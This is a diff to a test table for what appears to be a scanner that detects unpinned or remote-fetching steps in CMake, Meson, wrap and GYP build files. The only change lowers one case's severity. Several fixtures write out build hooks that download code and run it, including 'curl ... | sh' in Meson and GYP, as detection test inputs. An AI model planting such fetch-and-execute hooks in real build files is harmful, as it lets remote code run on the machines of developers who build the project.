@@ -38,7 +38,7 @@ CASES: Final = (
     Case("C3", "hit", "high", f"file(DOWNLOAD {FROM} tool)\nexecute_process(COMMAND ./tool)\n", CMAKE),
     Case("C3", "hit", "high", "FetchContent_Declare(foo GIT_REPOSITORY https://x.example.test/foo GIT_TAG main)\n",
          CMAKE),
-    Case("C3", "hit", "high", f"[wrap-git]\nurl = {FROM}\nrevision = head\n", WRAP),
+    Case("C3", "hit", "medium", f"[wrap-git]\nurl = {FROM}\nrevision = head\n", WRAP),
     Case("C3", "twin", None, f"[wrap-git]\nurl = {FROM}\nrevision = v1.2\n", WRAP),
     Case("C3", "hit", "high", f"run_command('sh', '-c', 'curl {FROM} | sh')\n", MESON),
     Case("C3", "hit", "high", f"{{'a': ['<!(curl {FROM} | sh)']}}", GYP),
